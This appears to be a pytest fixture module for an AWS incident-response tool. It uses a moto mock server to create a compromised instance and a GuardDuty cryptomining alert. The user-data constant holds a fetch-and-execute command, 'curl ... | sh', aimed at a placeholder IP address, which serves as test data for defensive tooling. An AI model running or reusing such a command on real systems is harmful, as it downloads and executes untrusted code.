"""Shared by the respond and posture tests: moto's server on 127.0.0.1 (a random free port), a compromised
instance launched in it, and a real alert for that instance made by ``minerwatch detect`` from a GuardDuty
finding."""

from __future__ import annotations

import copy
import json
import logging
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto.server import ThreadedMotoServer
from moto.ssm.responses import SimpleSystemManagerResponse
from typer.testing import CliRunner

from minerwatch.cli.all_commands import app

REGION = "us-east-1"
ACCOUNT = "123456789012"  # moto's default account
SAMPLE = Path(__file__).resolve().parents[1] / "data" / "real" / "guardduty"
USER_DATA = "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh  # [bold]not markup[/bold]\n"

runner = CliRunner()


@pytest.fixture(scope="session")
def moto_url() -> Iterator[str]:
    logging.getLogger("werkzeug").setLevel(logging.ERROR)
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    yield f"http://{host}:{port}"
    server.stop()


@pytest.fixture
def aws(moto_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> str:
    """A clean moto account and an environment that can reach nothing but it."""
    use_moto(moto_url, monkeypatch, tmp_path)
    return moto_url


def use_moto(moto_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    urllib.request.urlopen(urllib.request.Request(f"{moto_url}/moto-api/reset", method="POST")).read()
    for key in ("AWS_PROFILE", "AWS_SESSION_TOKEN", "AWS_ROLE_ARN", "AWS_WEB_IDENTITY_TOKEN_FILE"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", REGION)
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_url)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "no-aws-config"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "no-aws-credentials"))
    monkeypatch.setenv("USER", "analyst")
    # moto does not implement ssm:DescribeInstanceInformation (its server answers HTTP 500, which botocore retries
    # for seconds). Its instances run no SSM agent, so the answer Systems Manager gives for such instances, an empty
    # list, is added to moto's server here; tests of managed instances answer with botocore's Stubber instead.
    monkeypatch.setattr(
        SimpleSystemManagerResponse, "describe_instance_information", _no_managed_instance, raising=False
    )


def _no_managed_instance(self: Any) -> str:
    return json.dumps({"InstanceInformationList": []})


def ec2() -> Any:
    # A new session each time: credentials come from the environment as it is now.
    return boto3.Session().client("ec2", region_name=REGION)


@dataclass
class Incident:
    alert_id: str
    instance_id: str
    vpc_id: str
    enis: list[str]
    volumes: list[str]
    groups: dict[str, list[str]]
    """ENI → its security groups at launch."""
    profile_arn: str
    state: Path
    evidence: Path


def launch(tmp_path: Path, user_data: str = USER_DATA) -> dict[str, Any]:
    """An instance with two interfaces (different groups), two EBS volumes, an instance profile and user data."""
    client = ec2()
    iam = boto3.Session().client("iam", region_name=REGION)
    vpc = client.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = client.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24")["Subnet"]["SubnetId"]
    web = client.create_security_group(GroupName="web", Description="web", VpcId=vpc)["GroupId"]
    client.authorize_security_group_ingress(
        GroupId=web,
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )
    app_sg = client.create_security_group(GroupName="app", Description="app", VpcId=vpc)["GroupId"]
    iam.create_role(
        RoleName="app-role", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": []})
    )
    profile = iam.create_instance_profile(InstanceProfileName="app-profile")["InstanceProfile"]
    iam.add_role_to_instance_profile(InstanceProfileName="app-profile", RoleName="app-role")
    image = client.describe_images()["Images"][0]["ImageId"]
    inst = client.run_instances(
        ImageId=image,
        MinCount=1,
        MaxCount=1,
        InstanceType="c5.4xlarge",
        SubnetId=subnet,
        SecurityGroupIds=[web],
        UserData=user_data,
        IamInstanceProfile={"Name": "app-profile"},
        BlockDeviceMappings=[
            {"DeviceName": "/dev/xvda", "Ebs": {"VolumeSize": 8}},
            {"DeviceName": "/dev/sdb", "Ebs": {"VolumeSize": 20}},
        ],
    )["Instances"][0]
    iid = inst["InstanceId"]
    second = client.create_network_interface(SubnetId=subnet, Groups=[app_sg])["NetworkInterface"]
    client.attach_network_interface(NetworkInterfaceId=second["NetworkInterfaceId"], InstanceId=iid, DeviceIndex=1)
    described = client.describe_instances(InstanceIds=[iid])["Reservations"][0]["Instances"][0]
    return {
        "instance_id": iid,
        "vpc_id": vpc,
        "groups": {
            n["NetworkInterfaceId"]: [g["GroupId"] for g in n["Groups"]] for n in described["NetworkInterfaces"]
        },
        "volumes": sorted(b["Ebs"]["VolumeId"] for b in described["BlockDeviceMappings"]),
        "profile_arn": profile["Arn"],
        "web": web,
        "app": app_sg,
    }


def finding_for(
    instance_id: str, finding_id: str = "5ac2f0e1d2c3b4a5968778695a4b3c2d", account: str = ACCOUNT
) -> dict[str, Any]:
    """The real BitcoinTool.B!DNS sample finding, re-addressed to our instance, account and region."""
    sample = json.loads((SAMPLE / "elastic-test-guard_duty-crypto.jsonl").read_text().splitlines()[0])
    f = copy.deepcopy(sample)
    f["id"] = finding_id
    f["accountId"] = account
    f["region"] = REGION
    f["arn"] = f"arn:aws:guardduty:{REGION}:{account}:detector/d/finding/{finding_id}"
    f["resource"]["instanceDetails"]["instanceId"] = instance_id
    f["service"]["additionalInfo"]["sample"] = False
    f["title"] = f"Bitcoin-related domain name queried by EC2 instance {instance_id}."
    return f


def detect_alert(tmp_path: Path, instance_id: str, state: Path, account: str = ACCOUNT) -> str:
    findings = tmp_path / "findings.jsonl"
    findings.write_text(json.dumps(finding_for(instance_id, account=account)) + "\n")
    res = runner.invoke(app, ["detect", str(findings), "--state", str(state)])
    assert res.exit_code == 0, res.output
    alerts = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert len(alerts) == 1 and alerts[0]["key"]["instance_id"] == instance_id
    return str(alerts[0]["alert_id"])


@pytest.fixture
def incident(aws: str, tmp_path: Path) -> Incident:
    world = launch(tmp_path)
    state = tmp_path / "state" / "state.db"
    alert_id = detect_alert(tmp_path, world["instance_id"], state)
    return Incident(
        alert_id=alert_id,
        instance_id=world["instance_id"],
        vpc_id=world["vpc_id"],
        enis=sorted(world["groups"]),
        volumes=world["volumes"],
        groups=world["groups"],
        profile_arn=world["profile_arn"],
        state=state,
        evidence=tmp_path / "evidence",
    )


def respond(inc: Incident, *args: str) -> Any:
    return runner.invoke(
        app, ["respond", inc.alert_id, "--state", str(inc.state), "--evidence", str(inc.evidence), *args]
    )


class CallLog:
    """Every AWS operation boto3 makes in this process, by name (a botocore-level record, independent of the
    code under test)."""

    def __init__(self) -> None:
        self.ops: list[tuple[str, str, dict[str, Any]]] = []
        self.signed: set[str] = set()

    def names(self) -> list[str]:
        return [op for _, op, _ in self.ops]

    def actions(self) -> set[str]:
        """The IAM actions of the calls made (``s3:ListBucket`` authorises ``ListObjectsV2``)."""
        return {_IAM_ACTION.get(a, a) for a in self.signed}


# Calls whose IAM action is not "<signing name>:<operation>".
_IAM_ACTION = {"s3:ListObjectsV2": "s3:ListBucket"}
_IAM_PREFIX = {"monitoring": "cloudwatch"}


def policy_actions(*integrations: str) -> set[str]:
    """Every action the policies ``minerwatch iam-policy --for NAME`` prints allow."""
    allowed: set[str] = set()
    for name in integrations:
        printed = runner.invoke(app, ["iam-policy", "--for", name])
        assert printed.exit_code == 0, printed.output
        allowed |= {a for s in json.loads(printed.stdout)["Statement"] for a in s["Action"]}
    return allowed


@pytest.fixture
def calls(monkeypatch: pytest.MonkeyPatch) -> CallLog:
    from botocore.client import BaseClient

    log = CallLog()
    original = BaseClient._make_api_call

    def recording(self: Any, operation_name: str, api_params: dict[str, Any]) -> Any:
        model = self.meta.service_model
        log.ops.append((model.service_name, operation_name, api_params))
        log.signed.add(f"{_IAM_PREFIX.get(model.signing_name, model.signing_name)}:{operation_name}")
        return original(self, operation_name, api_params)

    monkeypatch.setattr(BaseClient, "_make_api_call", recording)
    return log


# -- an AWS Organization of three accounts (posture --org, respond --org, and the --org reads) ----------------

ALLOW_ALL = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})


def set_auth(moto_url: str, count: str) -> None:
    req = urllib.request.Request(
        f"{moto_url}/moto-api/reset-auth", data=count.encode(), method="POST", headers={"Content-Type": "text/plain"}
    )
    urllib.request.urlopen(req).read()


def in_account_assumed(account: str) -> dict[str, Any]:
    return boto3.Session().client("sts").assume_role(  # a new session: credentials as the environment has them now
        RoleArn=f"arn:aws:iam::{account}:role/OrganizationAccountAccessRole", RoleSessionName="setup"
    )["Credentials"]


def in_account(account: str) -> Any:
    creds = in_account_assumed(account)
    return boto3.Session(
        aws_access_key_id=creds["AccessKeyId"], aws_secret_access_key=creds["SecretAccessKey"],
        aws_session_token=creds["SessionToken"], region_name=REGION,
    )


@pytest.fixture
def org(aws: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, str]]:
    """Management account 123456789012 (an admin user), members `good` (its role may do anything) and `denied`
    (its role has no permission at all); then moto checks every request against IAM."""
    iam = boto3.client("iam")
    iam.create_user(UserName="admin")
    iam.put_user_policy(UserName="admin", PolicyName="all", PolicyDocument=ALLOW_ALL)
    key = iam.create_access_key(UserName="admin")["AccessKey"]
    orgs = boto3.client("organizations")
    orgs.create_organization(FeatureSet="ALL")
    ids = {}
    for name in ("good", "denied"):
        status = orgs.create_account(AccountName=name, Email=f"{name}@example.com")["CreateAccountStatus"]
        ids[name] = status["AccountId"]
        # moto creates the role as Organizations does; `denied` loses every permission of it
        member_iam = in_account(ids[name]).client("iam")
        role = "OrganizationAccountAccessRole"
        if name == "good":
            member_iam.put_role_policy(RoleName=role, PolicyName="all", PolicyDocument=ALLOW_ALL)
            ec2 = in_account(ids[name]).client("ec2")
            sg = ec2.create_security_group(GroupName="open-ssh", Description="open")["GroupId"]
            ec2.authorize_security_group_ingress(GroupId=sg, IpPermissions=[
                {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
            ])
            ids["open_sg"] = sg
            continue
        for pol in member_iam.list_attached_role_policies(RoleName=role)["AttachedPolicies"]:
            member_iam.detach_role_policy(RoleName=role, PolicyArn=pol["PolicyArn"])
        for pol_name in member_iam.list_role_policies(RoleName=role)["PolicyNames"]:
            member_iam.delete_role_policy(RoleName=role, PolicyName=pol_name)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", key["AccessKeyId"])
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", key["SecretAccessKey"])
    set_auth(aws, "0")
    try:
        yield ids
    finally:
        set_auth(aws, "inf")
